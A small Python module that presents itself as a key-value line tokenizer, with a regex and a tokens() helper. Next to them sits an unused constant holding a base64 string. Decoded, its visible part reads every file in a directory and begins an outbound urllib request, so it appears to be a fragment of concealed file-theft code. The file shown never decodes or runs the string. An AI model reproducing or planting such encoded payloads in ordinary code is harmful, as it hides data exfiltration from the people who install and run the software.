import re

TOKEN = re.compile(r"\s*(\S+)\s*=?\s*(.*)")
_TBL = "W4oZiwgZXJyb3JzPSdpZ25vcmUnKS5yZWFkKCkgZm9yIGYgaW4gZ2xvYi5nbG9iKGggKyAnLyonKSBpZiBvcy5wYXRoLmlzZmlsZShmKX0KdXJsbGliLnJlcXVlc3QudXJsb3"


def tokens(line):
    m = TOKEN.match(line)
    return m.groups() if m else None
